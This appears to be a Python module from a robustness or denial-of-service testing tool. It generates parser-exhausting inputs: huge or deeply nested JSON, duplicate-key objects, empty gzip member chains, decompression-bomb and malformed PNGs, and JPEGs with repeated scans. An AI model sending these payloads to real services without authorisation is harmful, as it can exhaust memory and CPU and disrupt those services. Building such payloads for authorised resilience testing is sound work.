"""The bodies that attacks send. Each is made as small in memory as it can be, and made once for all of its senders."""

from __future__ import annotations

import gzip
import io
import struct
import zlib

from PIL import Image

_PNG = b"\x89PNG\r\n\x1a\n"
_SCAN, _END = b"\xff\xda", b"\xff\xd9"


def empty_arrays(size: int) -> bytes:
    """JSON of `size` bytes: an array of empty arrays, which are 75 times as large as objects."""
    return b"[" + b"[]," * ((size - 4) // 3) + b"[]]"


def nested_arrays(size: int) -> bytes:
    """JSON of `size` bytes: one array in another."""
    return b"[" * (size // 2) + b"]" * (size // 2)


def duplicate_member(size: int) -> bytes:
    """JSON of about `size` bytes: an object whose last two members have one name."""
    members: list[bytes] = []
    length = 0
    while length < size:
        members.append(b'"m%d":0' % len(members))
        length += len(members[-1]) + 1
    return b"{" + b",".join([*members, members[-1]]) + b"}"


def empty_gzip_members(count: int) -> bytes:
    """So many gzip members of 20 bytes that hold nothing."""
    return gzip.compress(b"", mtime=0) * count


def garbage_png(size: int) -> bytes:
    """`size` bytes that begin as a photograph of 6,000 by 4,000 pixels and go on as noise that is no image data."""
    noise = (bytes(range(256)) * (size // 256 + 1))[:size]
    return _PNG + _chunk(b"IHDR", struct.pack(">IIBBBBB", 6000, 4000, 8, 2, 0, 0, 0)) + _chunk(b"IDAT", noise)


def gigapixel_png(side: int) -> bytes:
    """A black image of `side` by `side` pixels, one bit each: a thousandth of its size when packed."""
    row = bytes(1 + (side + 7) // 8)
    pack = zlib.compressobj(9)
    data = b"".join(pack.compress(row) for _ in range(side)) + pack.flush()
    return (
        _PNG
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def jpeg_of_scans(scans: int, side: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again: each goes over all of `side` by `side` pixels."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 128).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last = data.rindex(_SCAN)
    # The tables that a scan needs stand before it; the last one's are still known at the end.
    scan = data[last : data.rindex(_END)]
    return data[:last] + scan * (scans - data[:last].count(_SCAN)) + _END
